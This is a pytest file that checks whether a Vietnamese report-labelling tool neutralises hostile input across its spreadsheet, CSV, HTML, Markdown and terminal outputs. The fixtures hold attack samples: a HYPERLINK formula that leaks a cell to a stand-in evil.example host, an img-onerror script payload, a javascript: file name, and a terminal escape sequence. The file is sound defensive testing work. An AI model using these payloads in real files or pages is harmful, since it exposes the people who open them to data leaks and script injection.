"""Hostile text and file names in outputs: no formula, script, markup or terminal control gets through."""

from __future__ import annotations

import csv
import os
import re
import sys
from html.parser import HTMLParser

import openpyxl
import pytest

from nq35cls.cli import main
from nq35cls.errors import DataError
from nq35cls.review import read_review
from nq35cls.safe_text import (
    file_href,
    from_spreadsheet_text,
    markdown_text,
    printable,
    spreadsheet_text,
)
from nq35cls.writers.review import REVIEW_FIELDS

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")',
    "=1+1",
    "+2+3 là một dòng bắt đầu bằng dấu cộng",
    "-5+5 và một dấu trừ",
    "@SUM(A1:A9)",
]
REPORT = (
    "\n".join(
        [
            "BÁO CÁO SƠ KẾT",
            "I. KẾT QUẢ ĐẠT ĐƯỢC",
            "Huyện đã tổ chức 24 hội nghị quán triệt cho cán bộ, đảng viên.",
            *FORMULAS,
        ]
    )
    + "\n"
)


@pytest.fixture()
def hostile(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    # each file a little different: byte-identical inputs are labeled once
    (folder / "=evil.txt").write_text(REPORT + "Tệp 1.\n", encoding="utf-8")
    (folder / "javascript:alert(12).txt").write_text(REPORT + "Tệp 2.\n", encoding="utf-8")
    (folder / "báo cáo #2.txt").write_text(
        REPORT.replace("đảng viên.", "đảng viên <img src=x onerror=alert(1)> *đậm* [liên kết](http://x)."),
        encoding="utf-8",
    )
    if sys.platform != "win32":
        (folder / "tên\x1b]0;pwned\x07\nOK.txt").write_text(REPORT + "Tệp 3.\n", encoding="utf-8")
        with open(os.path.join(os.fsencode(folder), b"bad-\xff-name.txt"), "wb") as fh:
            fh.write((REPORT + "Tệp 4.\n").encode("utf-8"))
    return folder


def test_spreadsheet_text_round_trips():
    for value in [*FORMULAS, "\tx", "\rx", "Bình thường", "", "'=quoted", "''-x", "'plain"]:
        assert from_spreadsheet_text(spreadsheet_text(value)) == value
    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("- gạch đầu dòng") == "'- gạch đầu dòng"
    assert spreadsheet_text("Kết quả") == "Kết quả"


def test_xlsx_cells_are_text_never_formulas(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.xlsx"
    assert (
        main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q", "--keep-boilerplate"]) == 0
    )
    book = openpyxl.load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for formula in FORMULAS:
        assert formula in texts  # kept as the same text
    assert "=evil.txt" in " ".join(texts) and not any("\x1b" in t for t in texts)


def test_csv_and_review_cells_are_neutralised_and_read_back(hostile, small_model_file, tmp_path):
    out, review = tmp_path / "out.csv", tmp_path / "review.csv"
    args = ["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]
    assert main([*args, "--review", str(review), "--review-size", "500"]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for k, v in row.items() if k != "sentences"]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert "'=1+1" in {r["text"] for r in rows}
    assert any(r["file"].endswith("'=evil.txt") or "=evil.txt" in r["file"] for r in rows)
    with open(review, encoding="utf-8-sig", newline="") as fh:
        review_rows = list(csv.DictReader(fh))
    assert not [v for row in review_rows for v in row.values() if v and v[0] in "=+-@\t\r"]
    for row in review_rows:
        row["correct_label"] = "results"
    with open(review, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(review_rows[0]))
        writer.writeheader()
        writer.writerows(review_rows)
    back = {r.text for r in read_review(review)}
    assert set(FORMULAS) <= back


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs = []

    def handle_starttag(self, tag, attrs):
        self.hrefs += [v for k, v in attrs if k == "href"]


def test_html_links_are_relative_encoded_files(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.html"
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]) == 0
    page = out.read_text(encoding="utf-8")
    parser = _Links()
    parser.feed(page)
    files = [h for h in parser.hrefs if not h.startswith("#")]
    assert files
    for href in files:
        assert href.startswith(("./", "../")), href
        assert ":" not in href and " " not in href and "#" not in href, href
    assert "./in/javascript%3Aalert%2812%29.txt" in files
    assert "./in/b%C3%A1o%20c%C3%A1o%20%232.txt" in files
    assert "\x1b" not in page and "<img src=x" not in page


def test_markdown_escapes_text_and_names(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.md"
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]) == 0
    text = out.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", text) and "\\<img src=x onerror=alert\\(1\\)\\>" in text
    assert "\x1b" not in text
    table = [line for line in text.splitlines() if line.startswith("| ") and "|---" not in line]
    assert all(line.rstrip().endswith("|") for line in table)  # no row broken by a newline in a name


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names")
def test_stderr_shows_control_characters_escaped(hostile, small_model_file, capsys):
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", os.devnull, "--force"]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "tên\\x1b]0;pwned\\x07\\x0aOK.txt" in err
    assert "bad-\\xff-name.txt" in err
    assert len(err.splitlines()) == 6  # one line per file, none forged, and the closing summary


def test_helpers():
    assert printable("a\nb\x9bc") == "a\\x0ab\\x9bc"
    assert file_href("x.txt", None) == "./x.txt"
    assert file_href("/abs/a b.txt", None) == "file:///abs/a%20b.txt"
    assert markdown_text("a|b") == "a\\|b"


def test_review_workbook_cells_are_text_and_read_back(hostile, small_model_file, tmp_path):
    out, review = tmp_path / "out.jsonl", tmp_path / "review.xlsx"
    args = ["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]
    assert main([*args, "--review", str(review), "--review-size", "500"]) == 0
    assert review.read_bytes()[:2] == b"PK"  # a workbook, not CSV under an .xlsx name
    book = openpyxl.load_workbook(review)
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows())
    head = [c.value for c in rows[0]]
    assert head == list(REVIEW_FIELDS) and head[5:7] == ["text", "correct_label"]
    assert not [c for row in rows for c in row if c.data_type == "f"]
    texts = {row[5].value for row in rows[1:]}
    assert set(FORMULAS) <= texts  # the same text, unprefixed: a text cell is never a formula
    (validation,) = sheet.data_validations.dataValidation
    assert validation.formula1 == '"results,limitations,solutions,other,boilerplate"'
    assert str(validation.sqref) == f"G2:G{len(rows)}"
    assert read_review(review) == []  # nothing reviewed yet
    for k, row in enumerate(rows[1:]):
        row[6].value = "solutions" if k % 2 else None  # every other row reviewed, as a person would
    book.save(review)
    back = [r for r in read_review(review) if r.reviewed]  # each with its neighbours as context
    assert len(back) == len(rows[1:]) // 2 and {r.label for r in back} == {"solutions"}
    assert {r.text for r in back} <= texts
    sheet.cell(row=2, column=7, value="Kết quả")  # Vietnamese label names are understood
    book.save(review)
    assert any(r.label == "results" for r in read_review(review))
    sheet.cell(row=2, column=7, value="có lẽ")
    book.save(review)
    with pytest.raises(DataError, match=r"review\.xlsx: 1 bad row\(s\):\n  line 2: unknown label 'có lẽ'"):
        read_review(review)


def test_review_workbook_that_is_not_one(tmp_path):
    bad = tmp_path / "review.xlsx"
    bad.write_text("file,text,correct_label\n", encoding="utf-8")
    with pytest.raises(DataError, match="not a readable .xlsx workbook"):
        read_review(bad)


def test_report_names_from_headers_are_escaped(small_model_file, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(
        'UBND XÃ "TÂN" & <1> ĐẬM*NHẠT\nCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\n'
        "Số: 4/BC-UBND\nTân Hưng, ngày 1 tháng 2 năm 2025\nBÁO CÁO\nKết quả </script><b>năm 2024</b>\n"
        "I. KẾT QUẢ\nXã đã tổ chức 5 hội nghị.\n",
        encoding="utf-8",
    )
    shown = {}
    for suffix in ("html", "md", "xlsx"):
        out = tmp_path / f"out.{suffix}"
        main(["label", str(folder), "--model", str(small_model_file), "-o", str(out), "-q"])
        if suffix == "xlsx":
            shown[suffix] = openpyxl.load_workbook(out).worksheets[0].cell(row=2, column=1).value
        else:
            shown[suffix] = out.read_text(encoding="utf-8")
    name = 'UBND xã "Tân" & <1> Đậm*nhạt, 4/BC-UBND, 1/2/2025'  # a star inside a word: no emphasis mark
    assert shown["xlsx"] == name  # the same text in the workbook
    assert "UBND xã &quot;Tân&quot; &amp; &lt;1&gt; Đậm*nhạt, 4/BC-UBND, 1/2/2025" in shown["html"]
    assert 'UBND xã "Tân" & \\<1\\> Đậm\\*nhạt, 4/BC-UBND, 1/2/2025' in shown["md"]
    for text in (shown["html"], shown["md"]):
        assert "<1>" not in text and "<b>" not in text  # text, never markup
    assert shown["html"].count("</script>") == 1 and "</script>" not in shown["md"]
